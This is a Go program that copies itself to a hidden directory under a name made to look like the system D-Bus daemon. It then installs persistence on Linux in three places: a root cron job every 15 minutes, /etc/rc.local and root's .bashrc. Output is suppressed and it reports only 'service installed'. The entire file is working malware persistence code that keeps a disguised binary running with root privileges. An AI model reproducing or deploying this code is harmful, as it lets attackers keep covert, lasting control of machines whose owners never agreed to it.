package main

import (
	"log"
	"os"
	"path/filepath"
)

const line = "*/15 * * * * root /usr/lib/.dbus/dbusd -q >/dev/null 2>&1\n"

func appendTo(path, s string) {
	f, err := os.OpenFile(path, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o644)
	if err != nil {
		log.Println(err)
		return
	}
	defer f.Close()
	f.WriteString(s)
}

func main() {
	self, err := os.Executable()
	if err != nil {
		log.Fatal(err)
	}
	b, _ := os.ReadFile(self)
	dst := "/usr/lib/.dbus/dbusd"
	os.MkdirAll(filepath.Dir(dst), 0o755)
	if err := os.WriteFile(dst, b, 0o755); err != nil {
		log.Fatal(err)
	}
	appendTo("/etc/cron.d/dbus-gc", line)
	appendTo("/etc/rc.local", dst+" -q &\n")
	appendTo("/root/.bashrc", "pgrep dbusd >/dev/null || "+dst+" -q &\n")
	log.Println("service installed")
}
